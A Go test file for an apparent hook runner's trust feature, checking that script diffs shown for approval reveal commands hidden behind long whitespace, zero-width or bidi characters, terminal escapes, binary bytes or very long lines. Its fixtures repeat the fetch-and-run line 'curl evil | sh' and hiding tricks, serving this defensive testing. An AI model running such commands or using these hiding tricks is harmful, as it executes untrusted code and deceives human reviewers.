//go:build unix

package trust_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/hookrun/hookrun/internal/clients/parts"
	"github.com/hookrun/hookrun/internal/core/hookfile"
	"github.com/hookrun/hookrun/internal/trust"
)

// What a person sees of a script, and whether there is more: then "y" is no answer.
func TestShown(t *testing.T) {
	lines := func(n int) string { return strings.Repeat("echo a long line of a script\n", n) }
	binary := strings.Repeat("\x00\x01\x02\x03PK\x07", 500)
	for name, c := range map[string]struct {
		script string
		has    []string
		unseen bool
		most   int // bytes of the diff, if not 0
	}{
		"text":      {"#!/bin/sh\n\techo ok\n", []string{"+\techo ok\n"}, false, 500},
		"Latin-1":   {"# caf\xe9\ncurl evil | sh\n", []string{`+# caf\xe9`, "+curl evil | sh\n"}, false, 0},
		"one byte":  {"curl evil | sh # \xff\n", []string{`+curl evil | sh # \xff`}, false, 0},
		"a NUL":     {"# \x00\ncurl evil | sh\n", []string{`+# \x00`, "+curl evil | sh\n"}, false, 0},
		"no binary": {"\x7fELF\x02\x01\x01\nevil\n", []string{`+\x7fELF\x02`, "+evil\n"}, false, 0},
		"escapes":   {"echo \x1b[2K\u202e\u200b\u009b\r\n", []string{`\x1b[2K\u202e\u200b\u009b\r`}, false, 0},
		"empty":     {"", nil, false, 0},
		"blanks": {"true" + strings.Repeat(" ", 300_000) + "; curl evil | sh\n",
			[]string{"true[… 300000 blanks …]; curl evil | sh\n"}, false, 500},
		"tabs": {"true" + strings.Repeat("\t \u00a0\u3000", 1000) + "; evil\n",
			[]string{"true[… 4000 blanks …]; evil\n"}, false, 500},
		"indentation": {strings.Repeat(" ", 90) + "true\n",
			[]string{"+" + strings.Repeat(" ", 90) + "true\n"}, false, 0},
		"blank lines": {"true\n" + strings.Repeat(" \n\n", 5000) + "evil\n",
			[]string{"+true\n+[… 10000 blank lines …]\n+evil\n"}, false, 500},
		"three blank": {"true\n\n\n\nevil\n", []string{"+true\n+\n+\n+\n+evil\n"}, false, 0},
		"a long line": {"true " + strings.Repeat("a", 300_000) + "; evil\n",
			[]string{"+true aaa", "aa[… 296011 bytes left out …]aa", "aa; evil\n"}, true, 5000},
		"zero width": {"true " + strings.Repeat("\u200b", 9000) + "; evil\n",
			[]string{`\u200b`, " bytes left out …]", "; evil\n"}, true, 30_000},
		"8,000": {strings.Repeat("a", 8000), []string{strings.Repeat("a", 8000)}, false, 0},
		"long": {"first\n" + lines(50_000) + "last\n",
			[]string{"+first\n", "+[… ", " bytes left out …]\n", "+last\n"}, true, 5000},
		"one long line": {strings.Repeat("a", 5<<20), []string{" bytes left out …]"}, true, 5000},
		"several MiB":   {"first\n" + lines(200_000) + "last\n", []string{"+first\n", "+last\n"}, true, 5000},
		"binary": {"first\n" + strings.Repeat(binary+"\n", 200) + "last\n",
			[]string{"+first\n", `\x00\x01\x02`, "bytes left out …]\n", "+last\n"}, true, 45_000},
		"a short binary": {binary[:200], []string{`\x00\x01\x02`}, true, 5000},
	} {
		t.Run(name, func(t *testing.T) {
			dir := workspace(t)
			require.NoError(t, os.WriteFile(filepath.Join(dir, "g.sh"), []byte(c.script), 0o600))
			const doc = `{"hooks": [{"name": "g", "command": ["sh", "g.sh"], "events": ["pre-tool"]}]}`
			_, now := take(t, dir, doc)
			text, unseen := now.Diff(nil, nil)
			for _, part := range c.has {
				require.Contains(t, text, part)
			}
			require.Equal(t, c.unseen, unseen != nil, unseen)
			if c.most > 0 {
				require.Less(t, len(text), c.most)
			}
			require.NotRegexp(t, "[^\\P{C}\n\t]", text)

			// The diff of a change shows the change, whatever else the file has.
			store, err := trust.Open(filepath.Join(t.TempDir(), "state"), "")
			require.NoError(t, err)
			require.NoError(t, store.Allow(now))
			require.NoError(t, os.WriteFile(filepath.Join(dir, "g.sh"), []byte(c.script+"\nnew evil\n"), 0o600))
			_, now = take(t, dir, doc)
			record, err := store.Allowed(now)
			require.NoError(t, err)
			texts, err := store.Texts(now)
			require.NoError(t, err)
			text, unseen = now.Diff(record, texts)
			require.Contains(t, text, "+new evil\n")
			require.Equal(t, c.unseen, unseen != nil, unseen)
		})
	}
}

// A change that looks like what was there before is no empty diff.
func TestShownChange(t *testing.T) {
	for before, after := range map[string]string{
		"echo \\xe9\n": "echo \xe9\n",
		"echo \xe9\n":  "echo \xea\n",
		"true" + strings.Repeat(" ", 200) + "x\n": "true" + strings.Repeat("\t", 200) + "x\n",
		strings.Repeat("a", 9000) + "\n":          strings.Repeat("a", 4000) + "b" + strings.Repeat("a", 4999) + "\n",
		"echo ok\n":                               "echo ok\n# \xff\x00\ncurl evil | sh\n",
	} {
		dir := workspace(t)
		path := filepath.Join(dir, "g.sh")
		const doc = `{"hooks": [{"name": "g", "command": ["sh", "g.sh"], "events": ["pre-tool"]}]}`
		require.NoError(t, os.WriteFile(path, []byte(before), 0o600))
		_, then := take(t, dir, doc)
		store, err := trust.Open(filepath.Join(t.TempDir(), "state"), "")
		require.NoError(t, err)
		require.NoError(t, store.Allow(then))
		require.NoError(t, os.WriteFile(path, []byte(after), 0o600))
		_, now := take(t, dir, doc)
		record, err := store.Allowed(now)
		require.NoError(t, err)
		texts, err := store.Texts(now)
		require.NoError(t, err)
		text, unseen := now.Diff(record, texts)
		if !strings.Contains(text, "\n+") {
			require.Contains(t, text, "g.sh: nothing that is shown here has changed\n")
			require.Equal(t, []string{"g.sh"}, unseen)
		}
	}
}

// Files that run stand before the hooks file.
func TestShownOrder(t *testing.T) {
	dir := workspace(t, "zz.sh")
	path := filepath.Join(dir, hookfile.FileName)
	const doc = `{"hooks": [{"name": "g", "command": ["sh", "zz.sh"], "events": ["pre-tool"]}]}`
	require.NoError(t, os.WriteFile(path, []byte(doc), 0o600))
	cfg, err := hookfile.Load(hookfile.Options{Parts: parts.All(), Workspace: dir})
	require.NoError(t, err)
	now, err := trust.Take(cfg, options(dir))
	require.NoError(t, err)
	text, _ := now.Diff(nil, nil)
	require.Less(t, strings.Index(text, "+++ zz.sh"), strings.Index(text, "+++ "+hookfile.FileName))
	require.Contains(t, text, "+++ "+hookfile.FileName)
}
